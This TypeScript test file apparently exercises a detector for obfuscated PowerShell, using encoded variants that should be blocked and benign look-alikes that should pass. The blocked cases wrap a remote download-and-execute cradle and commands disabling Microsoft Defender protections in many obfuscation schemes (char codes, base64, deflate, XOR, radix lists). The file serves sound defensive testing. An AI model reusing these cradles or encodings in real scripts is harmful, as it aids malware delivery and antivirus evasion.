import { deobfCases, enc } from "./_deobf_testing.ts";
import { deflateRawSync } from "node:zlib";

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1')";
const AV = "Set-MpPreference -DisableBehaviorMonitoring $true";
const SAFE = "Get-ChildItem C:\\Reports | Select-Object Name";
const radixList = (t: string, r: number, sep: string) =>
  [...t].map((c) => c.charCodeAt(0).toString(r)).join(sep);
const hexList = (t: string, sep: string) => radixList(t, 16, sep);
const xorList = (t: string, k: number, sep: string) =>
  [...t].map((c) => String(c.charCodeAt(0) ^ k)).join(sep);
const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));

deobfCases("powershell", [
  {
    id: "decoded",
    block: [
      // [char] arithmetic joined with +, built into a script block.
      `&([scriptblock]::Create((${[...CRADLE].map((c) => `[char]${c.charCodeAt(0)}`).join("+")})))`,
      // -join of a [char[]] code list.
      `powershell -nop -c "iex (-join [char[]](${enc.codes(CRADLE)}))"`,
      // Reversed string, indexed backwards.
      `$r="${enc.rev(CRADLE)}"; iex (-join $r[-1..-($r.Length)])`,
      // Format-operator reordering.
      `iex ("{1}{0}{2}" -f 'MpPreference -DisableBehavior','Set-','Monitoring $true')`,
      // Doubled single quotes (PowerShell's escaped quote) inside the fragments.
      `& ($env:ComSpec[4,15,25] -join '') ("{2}{0}{1}" -f 'ebClient).DownloadString(''https://198.51.100.7/','a.ps1'')','(New-Object Net.W')`,
      // Concatenated cmdlet with defender switch.
      `iex ('Set-Mp'+'Preference -Disable'+'ScriptScanning $true')`,
      // Junk characters replaced away.
      `iex ('S~e~t~-~M~p~P~r~e~f~e~r~e~n~c~e -DisableIntrusionPreventionSystem $true' -replace '~','')`,
      // UTF-16LE base64 decoded through [Text.Encoding]::Unicode.
      `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${
        enc.u16b64(CRADLE)
      }')))`,
      // Invoke-Obfuscation COMPRESS launcher shape with a real deflate stream.
      `.($env:ComSpec[4,15,25]-join'')(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${
        l1(deflateRawSync(CRADLE))
      }'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
      // Undecodable: a SecureString decrypted and executed.
      `$s = Get-Content .\\blob.txt | ConvertTo-SecureString -Key (1..16); iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))`,
      // Code list piped through [char], and a [byte[]] list read as ASCII.
      `iex ((${enc.codes(CRADLE)} | % {[char]$_}) -join '')`,
      `iex ([Text.Encoding]::ASCII.GetString([byte[]](${enc.codes(CRADLE)})))`,
      // Invoke-Obfuscation's built-in variable slices for iex.
      `&($PSHome[4]+$PSHome[30]+'x') ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1'))`,
      // Defender switch hidden in char codes.
      `iex ([string]::new([char[]](${enc.codes(AV)})))`,
    ],
    pass: [
      // -EncodedCommand of a harmless script.
      `powershell -NoProfile -EncodedCommand ${
        enc.u16b64("Get-ChildItem -Path C:\\logs | Sort-Object Length")
      }`,
      // Format operator for a report line.
      `"{0} files, {1} MB" -f $count, ($bytes / 1MB)`,
      `$name = "build-" + (Get-Date -Format "yyyyMMdd") + ".zip"; Compress-Archive -Path .\\out -DestinationPath $name`,
      `[char[]]'hello' | ForEach-Object { [int]$_ }`,
      `$b = [Convert]::FromBase64String($env:CERT_B64); [IO.File]::WriteAllBytes("cert.pfx", $b)`,
      `'a,b,c' -split ',' -join ';'`,
      `$s = 'olleh'; -join $s[-1..-($s.Length)]`,
      `(Get-Content log.txt) -replace 'ERROR','WARN' | Set-Content log.txt`,
    ],
  },
  {
    // Invoke-Obfuscation ENCODING families: a delimited list of codes in any radix (or XORed),
    // split and turned back into characters; a split-and-join of junk delimiters.
    id: "decoded",
    block: [
      `iex (('${hexList(CRADLE, ",")}' -split ',' | % {[char][Convert]::ToInt32($_,16)}) -join '')`,
      `iex (('${
        radixList(AV, 2, " ")
      }'.Split(' ') | ForEach-Object {[char]([Convert]::ToInt16(($_.ToString()),2))}) -join '')`,
      `& ([scriptblock]::Create((('${
        radixList(CRADLE, 8, "~")
      }' -split '~' | % {[char][Convert]::ToInt32($_,8)}) -join '')))`,
      `iex ([String]::Join('', ('${
        xorList(AV, 0x2a, ";")
      }'.Split(';') | % {[char]($_ -bxor 0x2a)})))`,
      `iex (('Set-M~pPref~erence -Disa~bleBehavi~orMonitoring \`$true' -split '~') -join '')`,
      // Round 46: an array literal XORed with a key kept in a variable.
      `$key = 0x3C\n$data = @(${
        xorList(CRADLE, 0x3c, ",")
      })\n& ([scriptblock]::Create((-join ($data | % { [char]($_ -bxor $key) }))))`,
      `$n=77;$p=@(${
        xorList(AV, 77, ", ")
      });Invoke-Expression ([string]::new(($p | ForEach-Object { [char]($_ -bxor $n) })))`,
      // Round 46: the memory stream held in a variable before the DeflateStream reads it.
      `$raw='${
        l1(deflateRawSync(CRADLE))
      }'\n$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String($raw))\n$ds = New-Object IO.Compression.DeflateStream($ms, [IO.Compression.CompressionMode]::Decompress)\niex (New-Object IO.StreamReader($ds)).ReadToEnd()`,
    ],
    pass: [
      `iex (('${hexList(SAFE, ",")}' -split ',' | % {[char][Convert]::ToInt32($_,16)}) -join '')`,
      `iex (('${
        radixList(SAFE, 2, " ")
      }'.Split(' ') | ForEach-Object {[char]([Convert]::ToInt16(($_.ToString()),2))}) -join '')`,
      `iex ([String]::Join('', ('${
        xorList(SAFE, 0x2a, ";")
      }'.Split(';') | % {[char]($_ -bxor 0x2a)})))`,
      `iex (('Get-Ch~ildItem C:\\Re~ports' -split '~') -join '')`,
      `$parts = 'a;b;c'.Split(';') | % { $_.ToUpper() }; $parts -join ','`,
      // Round 46 look-alikes: a XORed array and a deflated stream that decode to harmless text.
      `$key = 0x3C\n$data = @(${
        xorList(SAFE, 0x3c, ",")
      })\niex (-join ($data | % { [char]($_ -bxor $key) }))`,
      `$raw='${
        l1(deflateRawSync(SAFE))
      }'\n$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String($raw))\n$ds = New-Object IO.Compression.DeflateStream($ms, [IO.Compression.CompressionMode]::Decompress)\niex (New-Object IO.StreamReader($ds)).ReadToEnd()`,
      `$checksum = 0\n$bytes = @(10, 20, 30, 40, 50, 60, 70, 80)\nforeach ($b in $bytes) { $checksum = $checksum -bxor $b }\n$checksum`,
    ],
  },
]);
